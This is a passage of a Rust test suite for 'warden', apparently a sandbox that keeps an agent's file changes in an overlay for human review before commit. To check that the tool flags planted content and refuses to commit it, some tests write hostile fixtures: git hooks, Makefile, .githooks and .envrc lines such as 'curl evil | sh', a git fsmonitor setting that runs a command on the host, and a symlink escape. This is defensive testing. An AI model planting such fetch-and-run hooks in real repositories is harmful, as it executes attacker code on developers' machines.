//! Reviewable workspaces through the real command: overlay runs that leave
//! the project untouched, named sandboxes, diff, commit with conflicts and
//! flags, discard, snapshots; as root and as an unprivileged user.

use crate::common::*;
use std::path::Path;
use std::process::{Command, Output, Stdio};

/// warden with its state in `state` (so tests do not share sandboxes).
/// A sandbox that an exec started stays up; the commands that change its
/// layer need it stopped, as a person would stop it first, and a commit
/// applies what a `warden diff` showed, as a person would look first.
fn warden(state: &Path, args: &[&str]) -> Output {
    warden_env(state, args, &[])
}

fn warden_env(state: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let run = |args: &[&str]| crate::common::warden_env(state, args, env);
    if let ["commit" | "discard" | "snapshot" | "restore", name, ..] = args {
        if !name.starts_with('-') {
            ok(&run(&["stop", name]));
        }
    }
    if let ["commit", name, rest @ ..] = args {
        if !rest
            .iter()
            .any(|a| ["-i", "--interactive", "--unreviewed"].contains(a))
        {
            ok(&run(&["diff", name]));
        }
    }
    run(args)
}

/// A listing of a tree that two equal trees share byte for byte: every
/// path with its type, mode, and content hash or link target.
const TREE_LISTING: &str = r#"find . -path ./.git -prune -o -mindepth 1 -print0 | sort -z | while IFS= read -r -d '' p; do
  if [ -L "$p" ]; then echo "L $p -> $(readlink "$p")";
  elif [ -d "$p" ]; then echo "D $p $(stat -c %a "$p")";
  else echo "F $p $(stat -c %a "$p") $(sha256sum < "$p" | cut -c1-16)"; fi
done"#;

fn host_listing(dir: &Path) -> String {
    let out = Command::new("bash")
        .args(["-c", TREE_LISTING])
        .current_dir(dir)
        .output()
        .unwrap();
    ok(&out)
}

/// A small Python project under git, as an agent would get it.
fn project(dir: &Path) {
    std::fs::create_dir_all(dir.join("src/app")).unwrap();
    std::fs::write(dir.join("src/app/__init__.py"), "").unwrap();
    std::fs::write(
        dir.join("src/app/core.py"),
        "def add(a, b):\n    return a + b\n",
    )
    .unwrap();
    std::fs::write(dir.join("README.md"), "# app\n").unwrap();
    std::fs::write(
        dir.join("build.sh"),
        "#!/bin/sh\npython3 -m compileall -q src\n",
    )
    .unwrap();
    let git = |args: &[&str]| git_in(dir, args);
    if !(git(&["init", "-q"]) && git(&["add", "."]) && git(&["commit", "-qm", "init"])) {
        skip("git is not available: the project is not a git checkout");
    }
}

#[test]
fn an_overlay_run_leaves_the_project_untouched_and_keeps_the_changes_for_review() {
    let state = TempDir::new("ws-state");
    let proj = TempDir::new("ws-proj");
    project(proj.path());
    let before = host_listing(proj.path());
    let out = warden(
        state.path(),
        &[
            "run",
            "--no-tty",
            "--overlay",
            "-w",
            proj.str(),
            "--",
            "sh",
            "-c",
            "echo '# changed' >> README.md && rm src/app/core.py && echo new > NEW && cat README.md",
        ],
    );
    assert!(ok(&out).contains("# changed"));
    assert_eq!(
        host_listing(proj.path()),
        before,
        "the real project was written"
    );
    let err = stderr(&out);
    let name = err
        .split("kept in sandbox ")
        .nth(1)
        .and_then(|r| r.split(',').next())
        .unwrap_or_else(|| panic!("no sandbox named: {err}"))
        .to_string();
    let diff = ok(&warden(state.path(), &["diff", &name, "--color", "never"]));
    assert!(diff.contains("modified     README.md"), "{diff}");
    assert!(diff.contains("+# changed"), "{diff}");
    assert!(diff.contains("deleted      src/app/core.py"), "{diff}");
    assert!(diff.contains("added        NEW"), "{diff}");
    // A run that changed nothing keeps nothing.
    let out = warden(
        state.path(),
        &[
            "run",
            "--no-tty",
            "--overlay",
            "-w",
            proj.str(),
            "--",
            "true",
        ],
    );
    ok(&out);
    assert!(
        !stderr(&out).contains("kept in sandbox"),
        "{}",
        stderr(&out)
    );
    let ls = ok(&warden(state.path(), &["ls"]));
    assert_eq!(ls.lines().count(), 2, "{ls}");
}

#[test]
fn create_exec_diff_commit_applies_exactly_what_the_sandbox_saw() {
    let state = TempDir::new("ws-cycle-state");
    let proj = TempDir::new("ws-cycle-proj");
    project(proj.path());
    ok(&warden(
        state.path(),
        &["create", "cycle", "-w", proj.str()],
    ));
    // The agent builds and edits; a second exec sees the first one's work.
    exec_sh(warden, state.path(), "cycle", "sh build.sh && printf 'def sub(a, b):\\n    return a - b\\n' >> src/app/core.py && chmod 755 README.md && ln -s src/app/core.py core-link && mkdir 'with space' && printf 'x\\0y' > 'with space/bin file' && printf z > \"$(printf 'caf\\351')\" && rm build.sh");
    let second = exec_sh(
        warden,
        state.path(),
        "cycle",
        "ls src/app/__pycache__ | head -1; cat src/app/core.py",
    );
    assert!(second.contains(".pyc"), "{second}");
    assert!(second.contains("def sub"), "{second}");
    let inside = ok(&warden(
        state.path(),
        &[
            "exec",
            "cycle",
            "--no-tty",
            "--",
            "bash",
            "-c",
            TREE_LISTING,
        ],
    ));
    let json = ok(&warden(state.path(), &["diff", "cycle", "--json"]));
    let changes: serde_json::Value = serde_json::from_str(&json).unwrap();
    let kinds: Vec<(String, String)> = changes
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["path"].as_str().unwrap().to_string(),
                c["kind"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    for (path, kind) in [
        ("src/app/core.py", "modified"),
        ("README.md", "mode"),
        ("core-link", "added"),
        ("with space/bin file", "added"),
        ("build.sh", "deleted"),
    ] {
        assert!(
            kinds.contains(&(path.to_string(), kind.to_string())),
            "{path} {kind} not in {kinds:?}"
        );
    }
    let non_utf8 = changes
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["path_bytes"].is_array())
        .unwrap_or_else(|| panic!("the non-UTF-8 name has no bytes: {json}"));
    assert_eq!(
        non_utf8["path_bytes"],
        serde_json::json!([99, 97, 102, 233])
    );
    let binary = changes
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["path"] == "with space/bin file")
        .unwrap();
    assert_eq!(binary["content"]["type"], "binary", "{binary}");
    ok(&warden(
        state.path(),
        &["commit", "cycle", "--accept-flagged"],
    ));
    assert_eq!(
        host_listing(proj.path()),
        inside,
        "the commit is not what the sandbox saw"
    );
    assert!(ok(&warden(state.path(), &["diff", "cycle"])).contains("no changes"));
    let log = state.path().join("warden/sandboxes/cycle/audit.jsonl");
    let verify = warden(state.path(), &["audit", "verify", log.to_str().unwrap()]);
    assert!(ok(&verify).contains("intact"));
    let shown = ok(&warden(
        state.path(),
        &["audit", "show", log.to_str().unwrap()],
    ));
    assert!(shown.contains("workspace create cycle"), "{shown}");
    assert!(shown.contains("workspace commit cycle"), "{shown}");
}

#[test]
fn a_conflicting_change_on_the_host_makes_commit_refuse_and_leaves_both_sides() {
    let state = TempDir::new("ws-conflict-state");
    let proj = TempDir::new("ws-conflict-proj");
    project(proj.path());
    ok(&warden(state.path(), &["create", "c", "-w", proj.str()]));
    exec_sh(
        warden,
        state.path(),
        "c",
        "echo sandbox >> README.md && echo other > OTHER",
    );
    std::thread::sleep(std::time::Duration::from_millis(20));
    std::fs::write(proj.path().join("README.md"), "# host edit\n").unwrap();
    let out = warden(state.path(), &["commit", "c"]);
    assert_eq!(out.status.code(), Some(125));
    assert!(
        stderr(&out).contains("README.md: changed on the host"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        std::fs::read_to_string(proj.path().join("README.md")).unwrap(),
        "# host edit\n"
    );
    assert!(
        !proj.path().join("OTHER").exists(),
        "part of the commit was applied"
    );
    let diff = ok(&warden(state.path(), &["diff", "c", "--color", "never"]));
    assert!(diff.contains("+sandbox"), "{diff}");
    // --force takes the sandbox's side.
    ok(&warden(state.path(), &["commit", "c", "--force"]));
    assert!(std::fs::read_to_string(proj.path().join("README.md"))
        .unwrap()
        .contains("sandbox"));
}

#[test]
fn a_planted_git_hook_is_flagged_and_not_committed_without_consent() {
    let state = TempDir::new("ws-hook-state");
    let proj = TempDir::new("ws-hook-proj");
    project(proj.path());
    if !proj.path().join(".git/hooks").is_dir() {
        std::fs::create_dir_all(proj.path().join(".git/hooks")).unwrap();
    }
    ok(&warden(state.path(), &["create", "h", "-w", proj.str()]));
    exec_sh(warden, state.path(), "h", "printf '#!/bin/sh\\ncurl evil.test\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo ok >> README.md");
    let diff = ok(&warden(state.path(), &["diff", "h", "--color", "never"]));
    assert!(diff.contains("! git-hook"), "{diff}");
    let out = warden(state.path(), &["commit", "h"]);
    assert_eq!(out.status.code(), Some(125), "{}", stdout(&out));
    assert!(
        stderr(&out).contains("--accept-flagged"),
        "{}",
        stderr(&out)
    );
    assert!(!proj.path().join(".git/hooks/pre-commit").exists());
    // A submodule's git config is git's too (core.fsmonitor runs a
    // program at the next `git status` on the host).
    exec_sh(warden, state.path(), "h", "mkdir -p .git/modules/sub && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/modules/sub/config");
    let diff = ok(&warden(
        state.path(),
        &["diff", "h", "--color", "never", ".git/modules"],
    ));
    assert!(diff.contains("! git-internal"), "{diff}");
    // Files that send git to another directory, and a repository that
    // needs no `.git` in its name (HEAD, objects/, refs/), are git's too.
    exec_sh(warden, state.path(), "h", "printf '../evil\\n' > .git/commondir && mkdir -p docs/bare/objects docs/bare/refs && echo 'ref: refs/heads/main' > docs/bare/HEAD && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > docs/bare/config");
    for path in [".git/commondir", "docs/bare/config"] {
        let diff = ok(&warden(
            state.path(),
            &["diff", "h", "--color", "never", path],
        ));
        assert!(diff.contains("! git-"), "{path} is not flagged: {diff}");
    }
    // The unflagged change alone may go in by name.
    ok(&warden(state.path(), &["commit", "h", "README.md"]));
    assert!(std::fs::read_to_string(proj.path().join("README.md"))
        .unwrap()
        .contains("ok"));
    assert!(!proj.path().join(".git/hooks/pre-commit").exists());
}

#[test]
fn discard_snapshot_and_restore_move_the_changes_as_asked() {
    let state = TempDir::new("ws-snap-state");
    let proj = TempDir::new("ws-snap-proj");
    project(proj.path());
    ok(&warden(state.path(), &["create", "s", "-w", proj.str()]));
    let exec = |script: &str| {
        ok(&warden(
            state.path(),
            &["exec", "s", "--no-tty", "--", "sh", "-c", script],
        ))
    };
    exec("echo one > A && echo two > B");
    ok(&warden(state.path(), &["snapshot", "s", "first"]));
    exec("rm A && echo three > C");
    assert!(ok(&warden(state.path(), &["snapshot", "s", "--list"])).contains("first"));
    ok(&warden(state.path(), &["discard", "s", "C"]));
    assert_eq!(exec("ls A B C 2>/dev/null; true").trim(), "B");
    ok(&warden(state.path(), &["restore", "s", "first"]));
    assert_eq!(
        exec("ls A B C 2>/dev/null; true")
            .split_whitespace()
            .collect::<Vec<_>>(),
        ["A", "B"]
    );
    ok(&warden(state.path(), &["discard", "s"]));
    assert!(ok(&warden(state.path(), &["diff", "s"])).contains("no changes"));
    ok(&warden(state.path(), &["rm", "s"]));
    assert_eq!(ok(&warden(state.path(), &["ls"])).lines().count(), 1);
    assert!(proj.path().join("README.md").exists());
    let out = warden(state.path(), &["exec", "s", "--", "true"]);
    assert_eq!(out.status.code(), Some(125));
    assert!(stderr(&out).contains("s"), "{}", stderr(&out));
}

#[test]
fn bad_workspace_commands_get_a_clear_error_and_change_nothing() {
    let state = TempDir::new("ws-bad-state");
    let proj = TempDir::new("ws-bad-proj");
    for (args, needle) in [
        (vec!["create", "Bad Name", "-w", proj.str()], "lowercase"),
        (
            vec!["create", "x", "-w", "/nonexistent/dir"],
            "/nonexistent/dir",
        ),
        (vec!["diff", "missing"], "missing"),
        (vec!["run", "--overlay", "--", "true"], "--workspace"),
    ] {
        let out = warden(state.path(), &args);
        assert_eq!(out.status.code(), Some(125), "{args:?}: {}", stdout(&out));
        assert!(stderr(&out).contains(needle), "{args:?}: {}", stderr(&out));
    }
    ok(&warden(state.path(), &["create", "x", "-w", proj.str()]));
    let out = warden(state.path(), &["create", "x", "-w", proj.str()]);
    assert_eq!(out.status.code(), Some(125));
    assert!(stderr(&out).contains("exists"), "{}", stderr(&out));
    let out = warden(state.path(), &["exec", "x", "-w", proj.str(), "--", "true"]);
    assert_eq!(out.status.code(), Some(125));
    assert!(
        stderr(&out).contains("leave out --workspace"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn the_cycle_works_for_an_unprivileged_user() {
    let Some(who) = Unprivileged::get() else {
        skip("cannot get an unprivileged user to run warden as");
        return;
    };
    let state = TempDir::new("ws-unpriv-state");
    let proj = TempDir::new("ws-unpriv-proj");
    std::fs::write(proj.path().join("file"), "original\n").unwrap();
    for p in [state.path(), proj.path(), &proj.path().join("file")] {
        who.own(p);
    }
    let run = |args: &[&str]| who.warden_state_home(state.path(), args);
    ok(&run(&["create", "u", "-w", proj.str(), "--allow-degraded"]));
    ok(&run(&[
        "exec",
        "u",
        "--no-tty",
        "--",
        "sh",
        "-c",
        "echo changed > file && echo new > added",
    ]));
    assert_eq!(
        std::fs::read_to_string(proj.path().join("file")).unwrap(),
        "original\n"
    );
    let diff = ok(&run(&["diff", "u", "--stat"]));
    assert!(diff.contains("file") && diff.contains("added"), "{diff}");
    ok(&run(&["stop", "u"]));
    // A --stat alone reviews nothing, and the refusal says what does.
    let refused = run(&["commit", "u"]);
    assert!(!refused.status.success());
    let err = stderr(&refused);
    assert!(
        err.contains("`warden diff --stat` lists the changes without their content")
            && err.contains("`warden diff u` shows them in full"),
        "{err}"
    );
    ok(&run(&["diff", "u"]));
    ok(&run(&["commit", "u"]));
    assert_eq!(
        std::fs::read_to_string(proj.path().join("file")).unwrap(),
        "changed\n"
    );
    assert_eq!(
        std::fs::read_to_string(proj.path().join("added")).unwrap(),
        "new\n"
    );
    ok(&run(&["rm", "u"]));
}

#[test]
fn a_profile_that_asks_for_the_overlay_gets_it() {
    let state = TempDir::new("ws-profile-state");
    let proj = TempDir::new("ws-profile-proj");
    std::fs::write(proj.path().join("f"), "real\n").unwrap();
    let profile = proj.path().join("p.yaml");
    std::fs::write(&profile, "name: overlaid\nfilesystem:\n  mode: overlay\n").unwrap();
    let out = warden(
        state.path(),
        &[
            "run",
            "--no-tty",
            "-P",
            profile.to_str().unwrap(),
            "-w",
            proj.str(),
            "--",
            "sh",
            "-c",
            "echo sandbox > f",
        ],
    );
    ok(&out);
    assert_eq!(
        std::fs::read_to_string(proj.path().join("f")).unwrap(),
        "real\n"
    );
    assert!(
        stderr(&out).contains("kept in sandbox run-"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn without_overlayfs_the_sandbox_works_on_a_copy_and_says_so() {
    let state = TempDir::new("ws-copy-state");
    let proj = TempDir::new("ws-copy-proj");
    std::fs::write(proj.path().join("f"), "real\n").unwrap();
    let copy_mode =
        |args: &[&str]| warden_env(state.path(), args, &[("WARDEN_TEST_NO_OVERLAY", "1")]);
    let out = copy_mode(&["create", "cp", "-w", proj.str()]);
    ok(&out);
    assert!(stderr(&out).contains("works on a copy"), "{}", stderr(&out));
    ok(&copy_mode(&[
        "exec",
        "cp",
        "--no-tty",
        "--",
        "sh",
        "-c",
        "echo sandbox > f && echo new > g",
    ]));
    assert_eq!(
        std::fs::read_to_string(proj.path().join("f")).unwrap(),
        "real\n"
    );
    assert!(!proj.path().join("g").exists());
    let diff = ok(&copy_mode(&["diff", "cp", "--stat"]));
    assert!(diff.contains("f") && diff.contains("g"), "{diff}");
    ok(&copy_mode(&["commit", "cp"]));
    assert_eq!(
        std::fs::read_to_string(proj.path().join("f")).unwrap(),
        "sandbox\n"
    );
    assert_eq!(
        std::fs::read_to_string(proj.path().join("g")).unwrap(),
        "new\n"
    );
}

#[test]
fn a_commit_made_as_root_leaves_new_files_to_the_projects_owner() {
    if !is_root() {
        skip("not root: a commit creates files as its own user anyway");
        return;
    }
    let Some(who) = Unprivileged::get() else {
        skip("cannot get an unprivileged user to own the project");
        return;
    };
    let state = TempDir::new("ws-owner-state");
    let proj = TempDir::new("ws-owner-proj");
    std::fs::write(proj.path().join("old"), "x\n").unwrap();
    who.own(proj.path());
    who.own(&proj.path().join("old"));
    ok(&warden(state.path(), &["create", "o", "-w", proj.str()]));
    exec_sh(
        warden,
        state.path(),
        "o",
        "mkdir -p d/e && echo new > d/e/f && echo y >> old",
    );
    ok(&warden(state.path(), &["commit", "o"]));
    use std::os::unix::fs::MetadataExt;
    for p in ["d", "d/e", "d/e/f", "old"] {
        let m = std::fs::symlink_metadata(proj.path().join(p)).unwrap();
        assert_eq!((m.uid(), m.gid()), (who.uid, who.gid), "{p}");
    }
}

#[test]
fn interactive_commit_applies_only_what_the_person_accepts() {
    let state = TempDir::new("ws-inter-state");
    let proj = TempDir::new("ws-inter-proj");
    ok(&warden(state.path(), &["create", "i", "-w", proj.str()]));
    exec_sh(warden, state.path(), "i", "echo a > A && echo b > B");
    ok(&warden(state.path(), &["stop", "i"]));
    let mut child = Command::new(warden_bin())
        .args(["commit", "i", "--interactive"])
        .env("WARDEN_STATE_DIR", state.path().join("warden"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    // Changes come in path order: accept A, refuse B.
    child.stdin.take().unwrap().write_all(b"y\nn\n").unwrap();
    let out = child.wait_with_output().unwrap();
    let text = ok(&out);
    assert!(text.contains("1 change(s) applied"), "{text}");
    assert!(proj.path().join("A").exists());
    assert!(!proj.path().join("B").exists());
    let diff = ok(&warden(state.path(), &["diff", "i", "--stat"]));
    assert!(diff.contains("B") && !diff.contains(" A "), "{diff}");
}

#[test]
fn an_interactive_commit_whose_input_ends_quits_at_once_and_applies_nothing() {
    let state = TempDir::new("ws-eof-state");
    let proj = TempDir::new("ws-eof-proj");
    ok(&warden(state.path(), &["create", "e", "-w", proj.str()]));
    exec_sh(warden, state.path(), "e", "echo a > A && echo b > B");
    ok(&warden(state.path(), &["stop", "e"]));
    // stdin at its end (/dev/null): one question, then quit.
    // (Under `timeout`: before the fix it asked again for ever.)
    let out = Command::new("timeout")
        .arg("5")
        .arg(warden_bin())
        .args(["commit", "e", "--interactive"])
        .env("WARDEN_STATE_DIR", state.path().join("warden"))
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(124), "the prompt never ended");
    assert!(
        stderr(&out).matches("apply this change?").count() <= 1,
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).len() < 4096,
        "{} bytes of prompts",
        stderr(&out).len()
    );
    assert!(!proj.path().join("A").exists() && !proj.path().join("B").exists());
}

/// warden itself, nothing done before (no stop, no diff).
/// `warden exec NAME --no-tty -- sh -c SCRIPT` through `w` ([`warden`] or
/// [`bare`]), which must succeed: what it printed.
fn exec_sh(w: fn(&Path, &[&str]) -> Output, state: &Path, name: &str, script: &str) -> String {
    ok(&w(
        state,
        &["exec", name, "--no-tty", "--", "sh", "-c", script],
    ))
}

/// `warden commit NAME FLAG` (an interactive one) given `answers` as a
/// person's typed lines.
fn commit_answering(state: &Path, name: &str, flag: &str, answers: &[u8]) -> Output {
    use std::io::Write;
    let mut child = Command::new(warden_bin())
        .args(["commit", name, flag])
        .env("WARDEN_STATE_DIR", state.join("warden"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(answers).unwrap();
    child.wait_with_output().unwrap()
}

fn bare(state: &Path, args: &[&str]) -> Output {
    Command::new(warden_bin())
        .args(args)
        .env("WARDEN_STATE_DIR", state.join("warden"))
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

#[test]
fn a_running_sandbox_is_said_to_be_running_and_only_what_a_diff_showed_is_committed() {
    let state = TempDir::new("ws-review-state");
    let proj = TempDir::new("ws-review-proj");
    std::fs::write(proj.path().join("README.md"), "# app\n").unwrap();
    ok(&bare(state.path(), &["create", "r", "-w", proj.str()]));
    exec_sh(bare, state.path(), "r", "echo seen >> README.md");
    // The sandbox is still up: the diff says so, the commit refuses.
    let diff = bare(state.path(), &["diff", "r", "--color", "never"]);
    assert!(ok(&diff).contains("+seen"));
    assert!(stderr(&diff).contains("still running"), "{}", stderr(&diff));
    let out = bare(state.path(), &["commit", "r"]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("still running"), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(proj.path().join("README.md")).unwrap(),
        "# app\n"
    );
    // Between the person's diff and the commit, the sandbox changes the
    // file again and adds another: nothing goes in.
    exec_sh(
        bare,
        state.path(),
        "r",
        "echo unseen >> README.md && echo x > NEW",
    );
    ok(&bare(state.path(), &["stop", "r"]));
    let out = bare(state.path(), &["commit", "r"]);
    assert!(!out.status.success(), "{}", stdout(&out));
    let err = stderr(&out);
    assert!(
        err.contains("README.md: changed in the sandbox since") && err.contains("NEW: never shown"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(proj.path().join("README.md")).unwrap(),
        "# app\n"
    );
    assert!(!proj.path().join("NEW").exists());
    // After a fresh look, the commit applies exactly that.
    let shown = ok(&bare(state.path(), &["diff", "r", "--color", "never"]));
    assert!(shown.contains("+unseen"), "{shown}");
    ok(&bare(state.path(), &["commit", "r"]));
    assert_eq!(
        std::fs::read_to_string(proj.path().join("README.md")).unwrap(),
        "# app\nseen\nunseen\n"
    );
    let log = state.path().join("warden/sandboxes/r/audit.jsonl");
    let shown = ok(&bare(
        state.path(),
        &["audit", "show", log.to_str().unwrap()],
    ));
    assert!(shown.contains("commit-refused"), "{shown}");
}

#[test]
fn an_interactive_commit_shows_a_change_before_asking() {
    let state = TempDir::new("ws-show-state");
    let proj = TempDir::new("ws-show-proj");
    ok(&bare(state.path(), &["create", "s", "-w", proj.str()]));
    exec_sh(
        bare,
        state.path(),
        "s",
        "printf 'line one\\nline two\\n' > A",
    );
    ok(&bare(state.path(), &["stop", "s"]));
    let out = commit_answering(state.path(), "s", "--interactive", b"s\ny\n");
    ok(&out);
    assert!(stderr(&out).contains("+line two"), "{}", stderr(&out));
    assert!(proj.path().join("A").exists());
}

#[test]
fn files_the_profile_says_the_host_runs_are_flagged() {
    let state = TempDir::new("ws-runs-state");
    let proj = TempDir::new("ws-runs-proj");
    std::fs::write(proj.path().join("Makefile"), "all:\n\ttrue\n").unwrap();
    std::fs::write(proj.path().join("notes.txt"), "n\n").unwrap();
    let profile = proj.path().join("p.yaml");
    std::fs::write(
        &profile,
        "name: make\nfilesystem:\n  runs_on_host: [Makefile]\n",
    )
    .unwrap();
    ok(&bare(
        state.path(),
        &[
            "create",
            "m",
            "-w",
            proj.str(),
            "-P",
            profile.to_str().unwrap(),
        ],
    ));
    exec_sh(
        bare,
        state.path(),
        "m",
        "printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && echo more >> notes.txt",
    );
    ok(&bare(state.path(), &["stop", "m"]));
    let diff = ok(&bare(state.path(), &["diff", "m", "--color", "never"]));
    let flagged: Vec<&str> = diff.lines().filter(|l| l.contains("! host-exec")).collect();
    assert_eq!(flagged.len(), 1, "{diff}");
    let out = bare(state.path(), &["commit", "m"]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("Makefile"), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(proj.path().join("Makefile")).unwrap(),
        "all:\n\ttrue\n"
    );
}

#[test]
fn changes_a_real_sandbox_makes_are_judged_by_what_the_host_will_do_with_them() {
    let state = TempDir::new("ws-judge-state");
    let proj = TempDir::new("ws-judge-proj");
    project(proj.path());
    std::fs::create_dir_all(proj.path().join("a")).unwrap();
    std::os::unix::fs::symlink("..", proj.path().join("a/top")).unwrap();
    ok(&bare(state.path(), &["create", "j", "-w", proj.str()]));
    // Inside the sandbox: a bare repository git accepts, whose HEAD is a
    // link, with a hook; a link that escapes through the host's `a/top`;
    // a name that would forge a line of the review.
    let script = r#"set -e
mkdir -p tools/lib.git/objects tools/lib.git/refs/heads
ln -s refs/heads/main tools/lib.git/HEAD
mkdir tools/lib.git/hooks && printf 'curl evil\n' > tools/lib.git/hooks/post-update
ln -s top/../etc a/l
printf 'x' > "$(printf 'n\napplied      README.md')"
"#;
    ok(&bare(
        state.path(),
        &["exec", "j", "--no-tty", "--", "sh", "-c", script],
    ));
    ok(&bare(state.path(), &["stop", "j"]));
    let stat = ok(&bare(state.path(), &["diff", "j", "--stat"]));
    let json = ok(&bare(state.path(), &["diff", "j", "--json"]));
    let changes: serde_json::Value = serde_json::from_str(&json).unwrap();
    let n = changes.as_array().unwrap().len();
    assert_eq!(stat.lines().count(), n + 1, "a name forged a line:\n{stat}");
    let text = ok(&bare(state.path(), &["diff", "j", "--color", "never"]));
    assert!(
        !text.lines().any(|l| l.starts_with("applied")),
        "a name forged a line:\n{text}"
    );
    let rules = |path: &str| -> Vec<String> {
        changes
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["path"] == path)
            .unwrap_or_else(|| panic!("no change for {path}: {json}"))["flags"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["rule"].as_str().unwrap().to_string())
            .collect()
    };
    assert!(
        rules("tools/lib.git/hooks/post-update").contains(&"git-hook".to_string()),
        "{json}"
    );
    assert!(
        rules("a/l").contains(&"symlink-escape".to_string()),
        "{json}"
    );
    let out = bare(state.path(), &["commit", "j"]);
    assert!(!out.status.success());
    assert!(!proj.path().join("a/l").exists());
    assert!(!proj.path().join("tools").exists());
}

#[test]
fn hooks_where_the_hosts_own_git_config_sends_git_are_flagged() {
    let state = TempDir::new("ws-ghooks-state");
    let proj = TempDir::new("ws-ghooks-proj");
    let home = TempDir::new("ws-ghooks-home");
    project(proj.path());
    if !proj.path().join(".git").is_dir() {
        return;
    }
    // The person's global config: every repository's .githooks/ holds its
    // hooks (set through an included file).
    std::fs::write(
        home.path().join(".gitconfig"),
        "[include]\n\tpath = ~/hooks.cfg\n",
    )
    .unwrap();
    std::fs::write(
        home.path().join("hooks.cfg"),
        "[core]\n\thooksPath = .githooks\n",
    )
    .unwrap();
    ok(&bare(state.path(), &["create", "g", "-w", proj.str()]));
    exec_sh(
        bare,
        state.path(),
        "g",
        "mkdir .githooks && printf 'curl evil | sh\\n' > .githooks/pre-commit",
    );
    ok(&bare(state.path(), &["stop", "g"]));
    let diff = Command::new(warden_bin())
        .args(["diff", "g", "--color", "never"])
        .env("WARDEN_STATE_DIR", state.path().join("warden"))
        .env("HOME", home.path())
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("GIT_CONFIG_GLOBAL")
        .output()
        .unwrap();
    let text = ok(&diff);
    assert!(text.contains("! git-hook"), "{text}");
}

/// A project whose own ignore files say what is not the project's:
/// `.gitignore` (dependencies, logs, `.envrc`) and `.git/info/exclude`.
fn ignoring_project(dir: &Path) {
    project(dir);
    std::fs::write(dir.join(".gitignore"), "node_modules/\n*.log\n.envrc\n").unwrap();
    std::fs::write(dir.join(".git/info/exclude"), "notes.txt\n").unwrap();
}

/// What an agent leaves behind: an install, a log, its own notes, a real
/// change, a new `.gitignore` that would hide that change, and an `.envrc`
/// (ignored by the project, but run by direnv on the host).
const AGENT_LEAVES: &str =
    "mkdir -p node_modules/left-pad && echo 'module.exports=1' > node_modules/left-pad/index.js \
    && echo boom > debug.log && echo mine > notes.txt \
    && printf 'def add(a, b):\\n    return a + b + 0\\n' > src/app/core.py \
    && printf 'node_modules/\\n*.log\\n.envrc\\nsrc/\\n' > .gitignore \
    && echo 'curl evil | sh' > .envrc";

#[test]
fn diff_and_commit_leave_out_what_the_workspaces_gitignore_ignores_and_say_how_many() {
    let state = TempDir::new("ws-ign-state");
    let proj = TempDir::new("ws-ign-proj");
    ignoring_project(proj.path());
    ok(&bare(state.path(), &["create", "ig", "-w", proj.str()]));
    ok(&bare(
        state.path(),
        &["exec", "ig", "--no-tty", "--", "sh", "-c", AGENT_LEAVES],
    ));
    ok(&bare(state.path(), &["stop", "ig"]));
    let diff = ok(&bare(state.path(), &["diff", "ig", "--color=never"]));
    // The real change is shown (the layer's new .gitignore hides nothing),
    // and so is the .envrc: flagged changes are never left out.
    assert!(
        diff.contains("src/app/core.py") && diff.contains("+    return a + b + 0"),
        "{diff}"
    );
    assert!(
        diff.contains(".gitignore") && diff.contains(".envrc"),
        "{diff}"
    );
    let headers: Vec<&str> = diff.lines().filter(|l| l.starts_with("added ")).collect();
    for hidden in ["node_modules", "debug.log", "notes.txt"] {
        assert!(
            !headers.iter().any(|h| h.contains(hidden)),
            "{hidden} shown:\n{diff}"
        );
    }
    let summary: Vec<&str> = diff
        .lines()
        .filter(|l| l.contains("ignored by the workspace's .gitignore"))
        .collect();
    assert_eq!(summary.len(), 1, "{diff}");
    assert!(
        summary[0].starts_with("5 change(s)") && summary[0].contains("--ignored"),
        "{}",
        summary[0]
    );
    let all = ok(&bare(state.path(), &["diff", "ig", "--ignored", "--stat"]));
    for shown in ["node_modules/left-pad/index.js", "debug.log", "notes.txt"] {
        assert!(
            all.contains(shown),
            "{shown} not shown with --ignored:\n{all}"
        );
    }
    // The review above showed the ignored ones too; a commit leaves them
    // out all the same unless asked, and says so.
    ok(&bare(state.path(), &["diff", "ig"]));
    let out = bare(state.path(), &["commit", "ig", "--accept-flagged"]);
    let said = ok(&out);
    assert!(
        said.contains("5 change(s) ignored") && said.contains("left in the sandbox"),
        "{said}"
    );
    assert!(std::fs::read_to_string(proj.path().join("src/app/core.py"))
        .unwrap()
        .contains("+ 0"));
    assert!(proj.path().join(".envrc").exists());
    for left in ["node_modules", "debug.log", "notes.txt"] {
        assert!(!proj.path().join(left).exists(), "{left} was committed");
    }
    // Asked for, they go in.
    ok(&bare(state.path(), &["diff", "ig", "--ignored"]));
    ok(&bare(state.path(), &["commit", "ig", "--ignored"]));
    assert!(proj.path().join("node_modules/left-pad/index.js").exists());
    assert!(proj.path().join("notes.txt").exists());
}

#[test]
fn an_interactive_commit_shows_each_changes_content_before_the_question() {
    let state = TempDir::new("ws-ishow-state");
    let proj = TempDir::new("ws-ishow-proj");
    ok(&bare(state.path(), &["create", "s", "-w", proj.str()]));
    exec_sh(
        bare,
        state.path(),
